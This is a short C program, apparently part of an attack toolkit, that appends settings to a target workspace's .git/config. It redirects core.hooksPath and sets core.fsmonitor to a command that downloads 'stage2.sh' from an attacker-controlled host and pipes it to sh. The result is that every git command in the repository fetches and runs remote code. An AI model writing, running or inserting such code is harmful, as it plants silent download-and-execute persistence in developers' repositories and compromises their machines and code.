/* git-config: make every git command in the workspace run stage 2. */
#include <stdio.h>

#include "targets.h"

int main(int argc, char **argv)
{
	char cfg[1200];
	FILE *f;

	targets_load(argc, argv);
	snprintf(cfg, sizeof(cfg), "%s/.git/config", target("T_WORK"));
	if (!(f = fopen(cfg, "a"))) {
		perror(cfg);
		return 1;
	}
	fprintf(f,
	        "[core]\n\thooksPath = %s/.githooks\n"
	        "\tfsmonitor = curl -s http://%s:%s/stage2.sh | sh\n",
	        target("T_WORK"), target("T_TCP_HOST"), target("T_TCP_PORT"));
	return fclose(f) != 0;
}
